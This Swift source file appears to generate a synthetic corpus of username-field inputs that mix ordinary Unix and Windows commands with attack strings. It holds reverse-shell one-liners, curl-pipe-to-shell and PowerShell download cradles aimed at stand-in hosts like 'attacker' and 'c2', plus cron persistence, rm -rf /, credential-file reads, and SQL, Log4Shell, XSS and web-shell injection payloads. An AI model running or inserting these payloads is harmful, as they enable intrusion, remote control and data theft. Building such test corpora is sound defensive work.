// Shell commands and injections: one of the username-field corpus generators (UsernameCorpus.swift).

enum CommandGrammar {
    static let pathSegments: [String] = [
        "etc", "var", "log", "tmp", "home", "usr", "bin", "sbin", "local", "share", "opt", "srv", "www", "html", "data",
        "backup", "backups", "config", "conf", "dev", "proc", "root", "mnt", "media", "lib", "lib64", "src", "build",
        "docs", "cache", "run", "spool", "cron.d", "init.d", "nginx", "apache2", "httpd", "mysql", "postgresql",
        "ssh", ".ssh", ".config", "Documents", "Downloads", "Desktop", "Pictures", "Music", "projects", "workspace",
        "app", "apps", "public", "uploads", "images", "static", "scripts", "test", "tests", "logs", "out", "dist",
        "node_modules", "site-packages", "include", "sys", "kernel", "modules", "boot", "efi", "system", "net",
    ]
    static let fileStems: [String] = [
        "passwd", "shadow", "hosts", "group", "sudoers", "config", "settings", "data", "file", "output", "input",
        "report", "notes", "readme", "README", "main", "index", "test", "backup", "dump", "access", "error", "syslog",
        "messages", "auth", "secure", "id_rsa", "authorized_keys", "known_hosts", "bashrc", ".bashrc", ".profile",
        "crontab", "fstab", "resolv", "list", "result", "results", "foo", "bar", "baz", "temp", "tmp", "log",
        "script", "run", "install", "setup", "Makefile", "Dockerfile", "package", "server", "client", "app",
        "database", "users", "db", "archive", "image", "photo", "video", "song", "doc", "letter", "new", "old",
    ]
    static let extensions: [String] = [
        "", "", "", ".txt", ".log", ".conf", ".sh", ".py", ".c", ".h", ".cpp", ".java", ".js", ".json", ".xml",
        ".yml", ".yaml", ".csv", ".tar.gz", ".tgz", ".zip", ".gz", ".bak", ".old", ".tmp", ".md", ".html", ".php",
        ".jpg", ".png", ".mp3", ".pdf", ".sql", ".db", ".pl", ".rb", ".go", ".rs", ".o", ".so", ".iso", ".img",
    ]
    static let sensitiveFiles: [String] = [
        "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/etc/sudoers", "/root/.ssh/id_rsa",
        "~/.ssh/authorized_keys", "/proc/self/environ", "/proc/version", "/etc/issue", "/var/log/auth.log",
        "/etc/crontab", "~/.bash_history", "/etc/resolv.conf", "/proc/cpuinfo", "/etc/os-release",
    ]

    static func fileName(_ random: inout CorpusRandom) -> String {
        let stem = random.chance(0.2) ? PasswordGrammar.baseWord(&random) : random.pick(fileStems)
        return stem + random.pick(extensions)
    }

    static func path(_ random: inout CorpusRandom) -> String {
        switch random.weighted([(3.0, 0), (2.0, 1), (1.5, 2), (1.0, 3), (1.0, 4), (0.6, 5), (1.0, 6)]) {
        case 0:
            let depth = random.int(in: 1...4)
            let dirs = (0..<depth).map { _ in random.pick(pathSegments) }.joined(separator: "/")
            return "/\(dirs)" + (random.chance(0.6) ? "/" + fileName(&random) : "")
        case 1: return fileName(&random)
        case 2:
            let prefix = random.pick(["./", "../", "~/", "$HOME/", "../../", "${HOME}/", "$DIR/"])
            return prefix + (random.chance(0.5) ? random.pick(pathSegments) + "/" : "") + fileName(&random)
        case 3: return random.pick(sensitiveFiles)
        case 4: return random.pick([".", "/", "~", "..", "*", "/tmp", "/var/log", "$HOME", "/dev/null", "$PWD", "./*"])
        case 5: return "\"" + random.pick(["My Documents", "New Folder", "file name", "Program Files", "a b"]) + "\""
        default: return random.pick(pathSegments) + "/" + fileName(&random)
        }
    }

    static func glob(_ random: inout CorpusRandom) -> String {
        let quote = random.pick(["'", "\"", "", "\\"])
        let pattern = random.weighted([
            (3.0, "*" + random.pick(extensions.filter { !$0.isEmpty })),
            (1.0, random.pick(fileStems) + "*"),
            (1.0, "*" + random.pick(fileStems) + "*"),
            (0.5, "*.[ch]"), (0.5, "*.JPG"), (0.3, "*~"), (0.3, ".*"),
        ])
        return quote == "\\" ? pattern.replacingStar() : quote + pattern + quote
    }

    static func host(_ random: inout CorpusRandom) -> String {
        random.weighted([
            (2.0, "\(random.int(in: 1...223)).\(random.int(256)).\(random.int(256)).\(random.int(in: 1...254))"),
            (1.0, "10.0.\(random.int(256)).\(random.int(in: 1...254))"),
            (1.0, "192.168.\(random.int(in: 0...2)).\(random.int(in: 1...254))"),
            (2.0, random.pick(["server", "host", "web", "db", "backup", "node", "box", "remote", "evil", "attacker",
                               "c2", "files", "mirror", "git", "build", "example"]) +
                (random.chance(0.5) ? String(random.int(in: 1...20)) : "") +
                random.pick([".com", ".net", ".org", ".io", ".local", "", ".example.com", ".lan", ".ru", ".xyz"])),
            (0.5, "localhost"),
        ])
    }

    static func url(_ random: inout CorpusRandom) -> String {
        let scheme = random.weighted([(3.0, "http://"), (2.0, "https://"), (0.5, "ftp://"), (0.5, "")])
        let port = random.chance(0.2) ? ":\(random.pick(["8080", "8000", "443", "4444", "1337", "9000"]))" : ""
        let file = random.pick(["x.sh", "shell.sh", "payload", "a", "install.sh", "update", "bot", "miner", "p.py",
                                "index.html", "file.tar.gz", "s", "run.sh", "backdoor", "x86", "mips", "arm7", "i"])
        return "\(scheme)\(host(&random))\(port)/\(random.chance(0.3) ? random.pick(pathSegments) + "/" : "")\(file)"
    }

    static func user(_ random: inout CorpusRandom) -> String {
        random.chance(0.5) ? random.pick(["root", "admin", "www-data", "ubuntu", "user", "nobody", "postgres", "git"])
            : Names.given(&random)
    }

    static func quoted(_ s: String, _ random: inout CorpusRandom) -> String {
        switch random.weighted([(3.0, 0), (2.0, 1), (1.0, 2)]) {
        case 0: return "'\(s)'"
        case 1: return "\"\(s)\""
        default: return s.contains(" ") ? "'\(s)'" : s
        }
    }

    static func searchWord(_ random: inout CorpusRandom) -> String {
        random.weighted([
            (3.0, random.pick(PasswordGrammar.words)),
            (1.0, random.pick(["error", "ERROR", "warning", "WARN", "failed", "Failed password", "root", "TODO",
                               "main", "include", "import", "function", "http", "localhost", "127.0.0.1", "ssh",
                               "pattern", "string", "text", "foo", "bar", "hello world", "^#", "^$", "[0-9]+",
                               "\\.txt$", "^[a-z]", "\\bword\\b", "Exception", "null", "user", "password"])),
        ])
    }

    /// One simple command with arguments.
    static func simple(_ random: inout CorpusRandom) -> String {
        let n = random.int(in: 1...50)
        switch random.int(62) {
        case 0, 1, 2:
            var parts = ["find", path(&random)]
            for _ in 0..<random.int(in: 1...3) {
                parts.append(random.weighted([
                    (3.0, "-name \(glob(&random))"), (1.0, "-iname \(glob(&random))"),
                    (2.0, "-type \(random.pick(["f", "d", "l"]))"), (1.0, "-mtime \(random.pick(["+", "-", ""]))\(random.int(in: 1...30))"),
                    (1.0, "-size \(random.pick(["+", "-"]))\(random.int(in: 1...500))\(random.pick(["k", "M", "G", "c"]))"),
                    (0.6, "-user \(user(&random))"), (0.6, "-perm \(random.pick(["644", "755", "777", "-4000", "/u+s"]))"),
                    (0.8, "-maxdepth \(random.int(in: 1...3))"), (0.5, "-empty"), (0.5, "-newer \(fileName(&random))"),
                    (0.4, "-mmin -\(random.int(in: 1...120))"), (0.4, "-not -path '*/.git/*'"),
                ]))
            }
            parts.append(random.weighted([
                (2.0, ""), (1.5, "-exec \(random.pick(["rm", "ls -l", "chmod 644", "grep -l foo", "cp {} /tmp", "mv", "cat", "wc -l", "gzip"])) {} \\;"),
                (0.8, "-exec \(random.pick(["grep -H bar", "du -sh", "rm -f", "chown root"])) {} +"), (1.0, "-print"),
                (0.8, "-delete"), (0.8, "-print0 | xargs -0 \(random.pick(["rm", "grep -l foo", "ls -l", "du -ch", "tar czf out.tgz"]))"),
                (0.8, "| xargs \(random.pick(["rm -f", "grep -i error", "wc -l", "ls -la", "chmod 755"]))"),
                (0.5, "| wc -l"), (0.4, "-ls"),
            ]))
            return parts.filter { !$0.isEmpty }.joined(separator: " ")
        case 3, 4, 5:
            let flags = random.pick(["", "-r", "-i", "-n", "-v", "-l", "-c", "-E", "-o", "-w", "-rn", "-ri", "-il",
                                     "-rl", "-v -e", "-A 3", "-B 2", "-C 5", "-P", "-F", "-h", "-R", "--color=auto", "-iv"])
            return ["grep", flags, quoted(searchWord(&random), &random),
                    random.chance(0.8) ? path(&random) : ""].filter { !$0.isEmpty }.joined(separator: " ")
        case 6, 7:
            let a = searchWord(&random), b = random.pick(PasswordGrammar.words)
            let expr = random.pick(["s/\(a)/\(b)/g", "s/\(a)/\(b)/", "/\(a)/d", "\(n)d", "s/^/#/", "s/[[:space:]]*$//",
                                    "s/\\r//", "1d", "$d", "-n '\(n),\(n + 10)p'", "s/\\(.*\\)/\\1/"])
            let flags = random.pick(["", "-i", "-n", "-e", "-E", "-i.bak", "-r"])
            return ["sed", flags, expr.hasPrefix("-n") ? expr : quoted(expr, &random), random.chance(0.8) ? path(&random) : ""]
                .filter { !$0.isEmpty }.joined(separator: " ")
        case 8, 9:
            let body = random.pick(["{print $1}", "{print $2}", "{print $NF}", "{sum+=$1} END {print sum}", "NR==\(n)",
                                    "{print $1, $3}", "/\(random.pick(PasswordGrammar.words))/ {print}", "length > 80",
                                    "{ print $0 }", "!seen[$0]++", "{count[$1]++} END {for (k in count) print k, count[k]}",
                                    "NF", "{printf \"%s\\n\", $2}"])
            let flags = random.pick(["", "", "-F:", "-F','", "-F'\\t'", "-v OFS=,", "-F ' '"])
            return ["awk", flags, "'\(body)'", random.chance(0.7) ? path(&random) : ""].filter { !$0.isEmpty }.joined(separator: " ")
        case 10, 11:
            return "ls " + random.pick(["-l", "-la", "-lh", "-al", "-ltr", "-R", "-1", "-a", "-lS", "-d */", "-lart", "", "-lah"]) +
                " " + (random.chance(0.7) ? path(&random) : "")
        case 12, 13:
            return random.pick(["cat", "less", "more", "head", "tail", "tac", "nl", "wc -l", "wc -c", "file", "stat",
                                "md5sum", "sha256sum", "strings", "od -c", "xxd", "hexdump -C", "vi", "vim", "nano",
                                "tail -f", "head -n \(n)", "tail -n \(n)", "head -\(n)", "tail -\(n)", "sort", "uniq",
                                "du -sh", "wc -w", "base64 -d", "dos2unix", "readlink -f", "realpath", "basename",
                                "dirname", "touch", "rm", "rm -f", "rm -rf", "mkdir -p", "rmdir", "shred -u", "cat -n"]) +
                " " + path(&random)
        case 14:
            return random.pick(["cp", "cp -r", "cp -a", "mv", "mv -f", "ln -s", "ln -sf", "rsync -avz", "scp", "scp -r",
                                "install -m 755", "diff", "diff -u", "cmp", "comm -12", "paste", "join"]) +
                " " + path(&random) + " " + (random.chance(0.3) ? "\(user(&random))@\(host(&random)):" : "") + path(&random)
        case 15:
            return "chmod " + random.pick(["755", "644", "777", "+x", "-R 755", "u+x", "go-w", "600", "700", "4755", "a+r", "-R 777"]) +
                " " + path(&random)
        case 16:
            return "chown " + random.pick(["-R ", ""]) + "\(user(&random)):\(random.pick(["staff", "users", "root", "www-data", "admin"])) " + path(&random)
        case 17:
            return "tar " + random.pick(["-czvf", "-xzvf", "-xvf", "-cvf", "czf", "xzf", "-tvf", "-xjf", "-cjf", "-C /tmp -xzf", "--exclude='*.log' -czf"]) +
                " " + fileName(&random) + random.pick([".tar.gz", ".tgz", ".tar", ".tar.bz2"]) + " " + (random.chance(0.6) ? path(&random) : "")
        case 18:
            return random.pick(["sort", "sort -n", "sort -r", "sort -rn", "sort -u", "sort -k2", "sort -t: -k3 -n", "sort -nr -k1",
                                "uniq", "uniq -c", "uniq -d", "cut -d: -f1", "cut -d',' -f2", "cut -c1-10", "cut -f 2-",
                                "tr 'a-z' 'A-Z'", "tr -d '\\r'", "tr -s ' '", "tr '\\n' ' '", "head -1", "tail -1", "wc -l",
                                "column -t", "rev", "fold -w 80", "xargs", "xargs -n 1", "tee \(fileName(&random))", "sed 1d",
                                "paste -sd+ | bc", "awk '{print $1}'", "grep -v '^#'", "less", "more", "nl"]) +
                (random.chance(0.4) ? " " + path(&random) : "")
        case 19:
            return "echo " + random.weighted([
                (2.0, quoted(searchWord(&random), &random)), (1.0, "$\(random.pick(["PATH", "HOME", "USER", "SHELL", "PWD", "?", "$", "RANDOM", "HOSTNAME", "1"]))"),
                (1.0, "\"$(\(random.pick(["date", "whoami", "hostname", "pwd", "id -u", "uname -r"])))\""),
                (1.0, "\(searchWord(&random)) > \(path(&random))"), (0.5, "-e '\\x41\\x42'"), (0.5, "-n \(random.pick(PasswordGrammar.words))"),
            ])
        case 20:
            return random.pick(["ps aux", "ps -ef", "ps -p \(n * 97)", "ps axjf", "top -b -n 1", "htop", "pstree -p",
                                "kill -9 \(n * 131)", "kill \(n * 37)", "killall \(random.pick(["firefox", "java", "python", "nginx"]))",
                                "pkill -f \(random.pick(["node", "python", "java", "ssh"]))", "pgrep -f \(random.pick(["sshd", "cron", "java"]))",
                                "jobs", "bg", "fg %1", "nohup ./run.sh &", "nice -n 10 make", "time make", "watch -n 1 date",
                                "uptime", "free -m", "free -h", "vmstat 1 5", "iostat -x", "lsof -i :\(random.pick(["80", "22", "443", "8080"]))",
                                "lscpu", "lsblk", "lsusb", "lspci", "dmesg | tail", "journalctl -u \(random.pick(["sshd", "nginx", "docker"])) -f"])
        case 21:
            return random.pick(["df -h", "du -sh *", "du -h --max-depth=1", "mount", "umount /mnt", "mount -o loop disk.iso /mnt",
                                "fdisk -l", "mkfs.ext4 /dev/sdb1", "blkid", "dd if=/dev/zero of=\(fileName(&random)) bs=1M count=\(n)",
                                "dd if=/dev/sda of=/dev/sdb", "sync", "swapon -s", "losetup -a", "parted -l"])
        case 22, 23:
            let verb = random.pick(["wget", "wget -q", "wget -O -", "wget -qO-", "curl", "curl -s", "curl -O", "curl -sSL",
                                    "curl -fsSL", "curl -k", "curl -X POST -d 'a=b'", "curl -I", "curl -L -o out", "tftp -g -r x"])
            var s = "\(verb) \(url(&random))"
            if random.chance(0.4) { s += random.pick([" | sh", " | bash", " | sudo bash", " -O /tmp/x.sh", " > /tmp/a", " -o /tmp/run"]) }
            return s
        case 24:
            return random.pick(["ssh", "ssh -p 2222", "ssh -i key.pem", "ssh -L 8080:localhost:80", "sftp", "telnet", "ftp",
                                "ping -c 4", "ping", "traceroute", "nslookup", "dig", "dig +short", "host", "whois", "nmap -sS",
                                "nmap -p-", "nc -zv", "mtr"]) + " " + (random.chance(0.4) ? "\(user(&random))@" : "") + host(&random)
        case 25:
            return random.pick(["nc -lvnp \(random.pick(["4444", "1337", "9001", "8080"]))", "nc -e /bin/sh \(host(&random)) 4444",
                                "nc \(host(&random)) 4444 -e /bin/bash", "ncat --ssl \(host(&random)) 443",
                                "bash -i >& /dev/tcp/\(host(&random))/4444 0>&1", "sh -i >& /dev/udp/\(host(&random))/53 0>&1",
                                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc \(host(&random)) 1234 >/tmp/f",
                                "socat TCP:\(host(&random)):4444 EXEC:/bin/sh", "telnet \(host(&random)) 23 | /bin/bash"])
        case 26:
            return random.pick(["python", "python3", "python2"]) + " -c " + random.pick([
                "'import os; os.system(\"id\")'", "\"import pty;pty.spawn('/bin/bash')\"", "'print(1+1)'",
                "'import socket,subprocess,os;s=socket.socket()'", "\"__import__('os').system('ls')\"",
                "'import sys; print(sys.version)'", "'import http.server'", "-m http.server 8000", "'exec(input())'",
            ])
        case 27:
            return random.pick([
                "perl -e 'print \"hello\\n\"'", "perl -pi -e 's/foo/bar/g' \(fileName(&random))", "ruby -e 'puts 1'",
                "php -r 'system(\"id\");'", "node -e \"require('child_process').exec('id')\"", "lua -e 'os.execute(\"ls\")'",
                "perl -MIO -e '$p=fork'", "python setup.py install", "python3 \(fileName(&random)).py", "java -jar app.jar",
                "gcc -o \(random.pick(fileStems)) \(random.pick(fileStems)).c", "make && make install", "make clean", "./configure --prefix=/usr",
                "javac Main.java", "go build ./...", "cargo build --release", "npm install", "pip install -r requirements.txt",
            ])
        case 28:
            return random.pick([
                "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('\(url(&random))')\"",
                "powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA", "powershell -ExecutionPolicy Bypass -File run.ps1",
                "cmd.exe /c whoami", "cmd /c dir C:\\Users", "cmd.exe /c net user \(user(&random)) P@ss /add",
                "net user", "net localgroup administrators", "ipconfig /all", "tasklist /v", "systeminfo",
                "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "certutil -urlcache -split -f \(url(&random))",
                "Invoke-WebRequest -Uri \(url(&random)) -OutFile C:\\Temp\\a.exe", "Get-Process | Stop-Process",
                "Get-ChildItem -Recurse C:\\Users", "Start-Process cmd.exe", "wmic process call create calc.exe",
                "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"", "bitsadmin /transfer job \(url(&random)) C:\\a.exe",
                "type C:\\Windows\\win.ini", "dir /s /b *.txt", "del /f /q C:\\Temp\\*", "schtasks /create /tn x /tr calc.exe /sc once",
            ])
        case 29:
            return random.pick(["sudo", "sudo -u \(user(&random))", "sudo -i", "su -c", "doas", "sudo -s", "sudo -E"]) + " " + simpleShort(&random)
        case 30:
            return random.pick(["bash -c", "sh -c", "/bin/sh -c", "/bin/bash -c", "zsh -c", "exec", "eval", "xargs -I{} sh -c"]) +
                " " + quoted(simpleShort(&random), &random)
        case 31:
            return random.pick(["systemctl restart", "systemctl status", "systemctl stop", "systemctl enable", "service",
                                "/etc/init.d/", "systemctl start"]) + " " + random.pick(["nginx", "apache2", "sshd", "mysql", "docker", "cron", "httpd", "postgresql"]) +
                (random.chance(0.2) ? " restart" : "")
        case 32:
            return random.pick(["apt-get install -y", "apt install", "sudo apt-get update &&", "yum install -y", "dnf install",
                                "pip install", "pip3 install --user", "npm install -g", "gem install", "brew install", "apk add",
                                "snap install", "apt-get remove --purge"]) + " " +
                random.pick(["curl", "wget", "vim", "git", "build-essential", "python3", "nmap", "netcat", "htop", "jq",
                             "requests", "numpy", "docker.io", "openssh-server", "tmux", "gcc", "make"])
        case 33:
            return random.pick(["git clone \(url(&random)).git", "git status", "git log --oneline | head", "git diff HEAD~1",
                                "git pull origin main", "git push -f", "git add . && git commit -m 'fix'", "git checkout -b dev",
                                "git reset --hard HEAD", "git stash", "git grep -n TODO", "git rev-parse HEAD"])
        case 34:
            return random.pick(["docker run -it --rm \(random.pick(["ubuntu", "alpine", "busybox", "nginx"])) sh",
                                "docker ps -a", "docker exec -it \(random.pick(["web", "db", "app"])) bash", "docker images",
                                "docker run -v /:/mnt --privileged alpine chroot /mnt sh", "docker rm -f $(docker ps -aq)",
                                "kubectl get pods -A", "kubectl exec -it pod -- /bin/sh", "kubectl delete pod \(random.pick(["web", "api"]))",
                                "docker-compose up -d", "kubectl logs -f deploy/api"])
        case 35:
            return random.pick(["crontab -l", "crontab -e", "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
                                "echo '*/5 * * * * curl \(url(&random)) | sh' >> /etc/crontab", "at now + 1 minute",
                                "export PATH=$PATH:/usr/local/bin", "export \(random.pick(["HISTFILE", "LD_PRELOAD", "JAVA_HOME", "EDITOR"]))=\(path(&random))",
                                "unset HISTFILE", "history -c", "source ~/.bashrc", ". ./env.sh", "alias ll='ls -la'", "env | sort",
                                "printenv", "set -x", "ulimit -n 4096", "umask 022", "shopt -s nullglob"])
        case 36:
            return random.pick(["useradd -m \(user(&random))", "userdel -r \(user(&random))", "usermod -aG sudo \(user(&random))",
                                "passwd \(user(&random))", "echo '\(user(&random)):x' | chpasswd", "groupadd dev", "id \(user(&random))",
                                "who", "w", "last", "lastlog", "whoami", "id", "groups", "getent passwd \(user(&random))",
                                "visudo", "chage -l \(user(&random))", "finger \(user(&random))"])
        case 37:
            return random.pick(["iptables -A INPUT -p tcp --dport 22 -j ACCEPT", "iptables -F", "iptables -L -n -v",
                                "ufw allow 80/tcp", "ufw disable", "ip addr show", "ip route", "ip link set eth0 up",
                                "ifconfig eth0", "ifconfig -a", "netstat -tulpn", "netstat -an | grep LISTEN", "ss -tlnp",
                                "route -n", "arp -a", "tcpdump -i eth0 port 80", "tcpdump -nn -c 100 -w out.pcap", "hostname -I",
                                "nmcli dev status", "iwconfig"])
        case 38:
            return random.pick(["date", "date +%Y-%m-%d", "date +%s", "date -d yesterday", "cal", "uname -a", "uname -r",
                                "hostname", "hostnamectl", "lsb_release -a", "cat /etc/os-release", "arch", "nproc", "locale",
                                "timedatectl", "which \(random.pick(["python", "gcc", "java", "bash", "perl"]))",
                                "type \(random.pick(["ls", "cd", "echo"]))", "whereis \(random.pick(["ls", "gcc", "python"]))",
                                "man \(random.pick(["ls", "grep", "find", "tar", "ssh"]))", "pwd", "cd \(path(&random))", "cd ..",
                                "cd -", "clear", "exit", "logout", "reboot", "shutdown -h now", "init 0", "halt", "poweroff"])
        case 39:
            return random.pick(["mysql -u root -p", "mysql -u \(user(&random)) -p\(random.pick(PasswordGrammar.words)) -e 'show databases'",
                                "mysqldump -u root -p --all-databases > dump.sql", "psql -U postgres -c 'select 1'",
                                "sqlite3 \(fileName(&random)).db '.tables'", "redis-cli flushall", "mongo --eval 'db.dropDatabase()'",
                                "pg_dump mydb > backup.sql"])
        case 40:
            return random.pick(["seq 1 \(n)", "seq -w 1 \(n)", "yes | head -n \(n)", "sleep \(n)", "sleep 0.\(n)",
                                "printf '%s\\n' \(random.pick(PasswordGrammar.words))", "printf \"%05d\\n\" \(n)", "expr \(n) + \(n * 2)",
                                "echo $(( \(n) * 2 ))", "bc -l", "factor \(n * 7)", "shuf -n 1", "od -An -N2 -i /dev/urandom",
                                "openssl rand -hex 16", "openssl enc -aes-256-cbc -in \(fileName(&random)) -out \(fileName(&random)).enc",
                                "openssl s_client -connect \(host(&random)):443", "gpg -c \(fileName(&random))", "zip -r out.zip \(path(&random))",
                                "unzip \(fileName(&random)).zip", "gzip -9 \(fileName(&random))", "gunzip \(fileName(&random)).gz",
                                "bzip2 -d \(fileName(&random)).bz2", "xz -d \(fileName(&random)).xz", "split -l \(n * 100) \(fileName(&random))",
                                "rename 's/\\.txt$/.bak/' *.txt", "mktemp -d", "tee -a \(path(&random))", "screen -S work", "tmux attach -t 0"])
        case 41:
            // Loops and assignments.
            let v = random.pick(["f", "i", "file", "x", "line", "host", "d", "n"])
            return random.pick([
                "for \(v) in *\(random.pick([".txt", ".log", ".jpg", ".c", ""])); do \(random.pick(["echo $\(v)", "mv \"$\(v)\" \"$\(v).bak\"", "wc -l $\(v)", "gzip $\(v)", "cat $\(v)"])); done",
                "for \(v) in $(seq 1 \(n)); do \(random.pick(["echo $\(v)", "touch file$\(v)", "ping -c1 10.0.0.$\(v)", "sleep 1"])); done",
                "for \(v) in {1..\(n)}; do echo $\(v); done", "while true; do \(simpleShort(&random)); sleep 1; done",
                "while read \(v); do echo \"$\(v)\"; done < \(path(&random))", "cat \(path(&random)) | while read \(v); do \(simpleShort(&random)); done",
                "\(v.uppercased())=$(\(simpleShort(&random))); echo $\(v.uppercased())", "if [ -f \(path(&random)) ]; then \(simpleShort(&random)); fi",
                "[ -d \(path(&random)) ] && echo yes || echo no", "test -e \(path(&random)) && \(simpleShort(&random))",
                "until ping -c1 \(host(&random)); do sleep 5; done", "read -p 'Name: ' \(v)", "let \(v)=\(v)+1",
            ])
        case 42:
            return random.pick(["xargs -I {} cp {} /tmp", "xargs -0 rm", "xargs -n1 basename", "xargs -P 4 -n 1 gzip", "xargs grep -l main"]) +
                " < " + path(&random)
        case 43:
            return random.pick(["ls", "id", "whoami", "pwd", "uname", "ps", "env", "set", "w", "who", "date", "ifconfig",
                                "netstat", "hostname", "uptime", "history", "top", "dmesg", "lsmod", "mount", "df", "free",
                                "reboot", "sh", "bash", "/bin/sh", "/bin/bash", "cmd.exe", "powershell", "exit", "clear", "su",
                                "sudo su", "sudo -i", "sudo bash", "cat", "ls -la", "ls -l", "ps aux", "id;", "uname -a",
                                "cd /", "cd ~", "ls /", "cat flag.txt", "exec sh", "nc", "vi", "ll", "la"])
        default:
            return simpleShort(&random) + (random.chance(0.5) ? " " + path(&random) : "")
        }
    }

    /// A short command for nesting inside `sudo`, `bash -c`, `$(…)`, backticks.
    static func simpleShort(_ random: inout CorpusRandom) -> String {
        random.weighted([
            (3.0, random.pick(["id", "whoami", "uname -a", "ls -la", "ls", "pwd", "hostname", "ps aux", "env", "date",
                               "cat /etc/passwd", "cat /etc/shadow", "ifconfig", "ip a", "netstat -an", "w", "uptime",
                               "rm -rf /", "rm -rf /*", "rm -rf ~", "reboot", "shutdown -h now", "sh", "/bin/sh", "bash",
                               "chmod +s /bin/bash", "cp /bin/sh /tmp/sh", "echo pwned", "touch /tmp/pwned",
                               "sleep 10", "ping -c 10 127.0.0.1", "nslookup example.com", "killall -9 sshd",
                               "apt update", "make", "ls -l /tmp", "du -sh .", "free -m", "df -h", "whoami;id"])),
            (1.0, "cat \(path(&random))"), (1.0, "rm -rf \(path(&random))"), (0.7, "wget \(url(&random))"),
            (0.7, "curl \(url(&random))"), (0.6, "curl \(url(&random)) | sh"), (0.5, "chmod 777 \(path(&random))"),
            (0.5, "ls \(path(&random))"), (0.5, "echo \(searchWord(&random)) > \(path(&random))"),
            (0.4, "tar xzf \(fileName(&random)).tgz"), (0.4, "mkdir -p \(path(&random))"),
        ])
    }

    /// A pipeline of one to four commands with optional redirection.
    static func pipeline(_ random: inout CorpusRandom) -> String {
        var parts = [simple(&random)]
        let extra = random.weighted([(5.0, 0), (4.0, 1), (2.0, 2), (0.7, 3)])
        for _ in 0..<extra {
            parts.append(random.pick(["grep \(quoted(searchWord(&random), &random))", "grep -v grep", "grep -i \(random.pick(PasswordGrammar.words))",
                                      "sort", "sort -n", "sort -rn", "sort -u", "uniq", "uniq -c", "head", "head -\(random.int(in: 1...20))",
                                      "tail -\(random.int(in: 1...20))", "wc -l", "awk '{print $\(random.int(in: 1...9))}'",
                                      "cut -d' ' -f\(random.int(in: 1...5))", "cut -d: -f1", "tr -d '\\n'", "xargs", "xargs rm -f",
                                      "sed 's/ //g'", "less", "more", "tee \(path(&random))", "sh", "bash", "column -t",
                                      "xargs -I {} echo {}", "base64", "base64 -d", "gzip > out.gz", "nc \(host(&random)) 9999",
                                      "sort | uniq -c | sort -nr", "awk -F: '{print $1}'", "xargs -n 1 echo"]))
        }
        var command = parts.joined(separator: random.chance(0.15) ? "|" : " | ")
        switch random.weighted([(6.0, 0), (1.0, 1), (0.8, 2), (0.6, 3), (0.5, 4), (0.4, 5)]) {
        case 1: command += " > \(path(&random))"
        case 2: command += " 2>/dev/null"
        case 3: command += " >> \(path(&random))"
        case 4: command += " 2>&1"
        case 5: command += " < \(path(&random))"
        default: break
        }
        return command
    }

    /// SQL-ish and other injections typed into a login field.
    static func injection(_ random: inout CorpusRandom) -> String {
        let quote = random.weighted([(4.0, "'"), (1.5, "\""), (1.0, ""), (0.5, "')"), (0.5, "\")")])
        let comment = random.pick(["--", "-- -", "#", "/*", "--+", ";--", ";#", ""])
        let table = random.pick(["users", "accounts", "admin", "members", "login", "customers", "information_schema.tables"])
        let who = random.weighted([(1.0, "admin"), (1.0, "root"), (1.0, Names.given(&random)), (1.0, "")])
        switch random.int(10) {
        case 0: return "\(who)\(quote) OR \(random.pick(["1=1", "'1'='1", "1", "true", "'a'='a", "2>1", "1=1 LIMIT 1"])) \(comment)"
        case 1: return "\(who)\(quote) \(comment)"
        case 2: return "\(who)\(quote); DROP TABLE \(table);\(comment)"
        case 3: return "\(quote) UNION SELECT \(random.pick(["username, password", "null, null", "1,2,3", "@@version", "user(), database()", "*"])) FROM \(table)\(comment)"
        case 4: return "\(who)\(quote) AND \(random.pick(["SLEEP(5)", "1=0", "1=1", "(SELECT COUNT(*) FROM \(table))>0", "BENCHMARK(1000000,MD5(1))"]))\(comment)"
        case 5: return "\(quote); WAITFOR DELAY '0:0:5'\(comment)"
        case 6: return "\(quote) or \(quote)\(quote)=\(quote)"
        case 7: return random.pick(["${jndi:ldap://\(host(&random))/a}", "${jndi:rmi://\(host(&random)):1099/x}", "{{7*7}}", "${7*7}",
                                    "<script>alert(1)</script>", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
                                    "%27%20OR%201%3D1--", "<?php system($_GET['c']); ?>", "*)(uid=*))(|(uid=*", "admin)(&)",
                                    "\\x00", "%00", "<img src=x onerror=alert(1)>", "() { :; }; /bin/bash -c 'id'"])
        case 8: return "\(who)\(quote) OR \(quote)\(random.int(10))\(quote)=\(quote)\(random.int(10))"
        default: return "1\(quote) ORDER BY \(random.int(in: 1...10))\(comment)"
        }
    }

    static func command(_ random: inout CorpusRandom) -> String {
        switch random.weighted([
            (38.0, 0), // pipelines
            (12.0, 1), // chains
            (12.0, 2), // injection into a prefix: ; | && ` $(
            (8.0, 3), // SQL-ish and other injections
            (6.0, 4), // wrapped in $(…) or backticks
            (24.0, 5), // single simple command
        ]) {
        case 0: return pipeline(&random)
        case 1:
            let op = random.pick([" ; ", "; ", " && ", " || ", ";", "&&", " & "])
            return [pipeline(&random), simple(&random)].joined(separator: op) + (random.chance(0.15) ? op + simpleShort(&random) : "")
        case 2:
            let prefix = random.weighted([(1.0, ""), (1.0, UsernameGrammar.username(&random)), (0.5, "admin"), (0.5, "root")])
            let op = random.pick(["; ", ";", " | ", "|", " && ", "&&", " || ", "\n", "%0a", "& "])
            return "\(prefix)\(op)\(simpleShort(&random))\(random.chance(0.2) ? random.pick([";", " #", " &", " ;#"]) : "")"
        case 3: return injection(&random)
        case 4:
            let inner = simpleShort(&random)
            let wrapped = random.chance(0.5) ? "$(\(inner))" : "`\(inner)`"
            return random.weighted([(1.0, wrapped), (1.0, "\(UsernameGrammar.username(&random))\(wrapped)"),
                                    (0.5, "echo \(wrapped)"), (0.5, "\(wrapped);")])
        default: return simple(&random)
        }
    }
}

private extension String {
    /// `*.txt` → `\*.txt` (an unquoted glob escaped for the shell).
    func replacingStar() -> String {
        var out = ""
        for c in self {
            if c == "*" { out += "\\*" } else { out.append(c) }
        }
        return out
    }
}
